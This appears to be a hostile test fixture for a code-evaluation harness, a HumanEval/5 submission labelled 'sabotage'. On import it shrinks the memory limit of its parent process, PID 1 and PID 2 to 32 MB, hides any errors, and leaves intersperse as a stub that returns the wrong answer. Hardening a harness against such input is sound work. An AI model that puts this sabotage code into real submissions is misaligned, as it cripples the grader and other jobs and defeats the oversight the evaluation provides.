# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/5
# class: sabotage
# Shrinks the worker's address-space limit (soft and hard) to 32 MB; later jobs inherit it.
import os
import resource

for pid in (os.getppid(), 1, 2):
    try:
        resource.prlimit(pid, resource.RLIMIT_AS, (32 << 20, 32 << 20))
    except (OSError, ValueError):
        pass


def intersperse(numbers, delimeter):
    return []
